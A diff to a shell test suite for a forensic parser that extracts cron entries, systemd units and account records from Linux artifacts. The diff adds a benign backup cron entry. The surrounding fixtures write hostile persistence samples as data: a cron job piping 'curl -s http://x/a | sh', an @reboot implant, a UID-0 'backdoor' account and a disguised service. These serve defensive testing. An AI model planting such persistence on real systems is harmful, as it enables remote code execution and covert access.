@@ -480,6 +480,7 @@ open(sys.argv[2], 'wb').write(b)" "$f" "$d/$(basename "$f")"
 	mkdir -p "$d/etc/cron.d" "$d/spool"
 	printf 'SHELL=/bin/sh\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /usr/local/bin/implant --quiet\n' > "$d/etc/crontab"
 	printf '*/5 * * * * curl -s http://x/a | sh\n@reboot /tmp/.x\n' > "$d/spool/alice"
+	printf '0 3 * * 1-5 backup /usr/bin/backup.sh --all\n' > "$d/etc/cron.d/backup"
 	printf '[Unit]\nDescription=Totally legit\n[Service]\nExecStart=/usr/bin/python3 /opt/x.py\nExecStart=/bin/true\nUser=nobody\n[Install]\nWantedBy=multi-user.target\n' > "$d/evil.service"
 	ssh-keygen -q -t ed25519 -N '' -C 'bob@host' -f "$d/k1" </dev/null
 	ssh-keygen -q -t rsa -b 2048 -N '' -C 'eve' -f "$d/k2" </dev/null
@@ -487,12 +488,12 @@ open(sys.argv[2], 'wb').write(b)" "$f" "$d/$(basename "$f")"
 	rm -f "$d"/k1* "$d"/k2*
 	printf 'root:x:0:0:root:/root:/bin/bash\nbackdoor:x:0:0::/tmp:/bin/sh\n' > "$d/etc/passwd"
 	printf 'root:$6$abc$def:19000:0:99999:7:::\nbob:!$y$j9T$x$y:19500:0:99999:7:::\nnew::::::::\n' > "$d/etc/shadow"
-	touch -d '2024-01-01Z' "$d/etc/crontab" "$d/spool/alice" "$d/evil.service" "$d/spool/authorized_keys" "$d/etc/passwd" "$d/etc/shadow"
+	touch -d '2024-01-01Z' "$d/etc/cron.d/backup" "$d/etc/crontab" "$d/spool/alice" "$d/evil.service" "$d/spool/authorized_keys" "$d/etc/passwd" "$d/etc/shadow"
 	parse "$d"
 	[ "$status" -eq 0 ]
 	[ -z "$stderr" ]
 	run -0 jq -c -s 'map(select(.data_type == "linux:cron:entry") | [.schedule, .username, .command])' <<<"$output"
-	[ "$output" = '[["17 *\t* * *","root","cd / && run-parts --report /etc/cron.hourly"],["@reboot","root","/usr/local/bin/implant --quiet"],["*/5 * * * *",null,"curl -s http://x/a | sh"],["@reboot",null,"/tmp/.x"]]' ]
+	[ "$output" = '[["0 3 * * 1-5","backup","/usr/bin/backup.sh --all"],["17 *\t* * *","root","cd / && run-parts --report /etc/cron.hourly"],["@reboot","root","/usr/local/bin/implant --quiet"],["*/5 * * * *",null,"curl -s http://x/a | sh"],["@reboot",null,"/tmp/.x"]]' ]
 	parse "$d"
 	run -0 jq -c -s 'map(select(.data_type == "linux:systemd:unit") | [.unit, .description, .exec_start, .user, .wanted_by, .time])' <<<"$output"
 	[ "$output" = '[["evil.service","Totally legit",["/usr/bin/python3 /opt/x.py","/bin/true"],"nobody","multi-user.target","2024-01-01T00:00:00.000000000Z"]]' ]
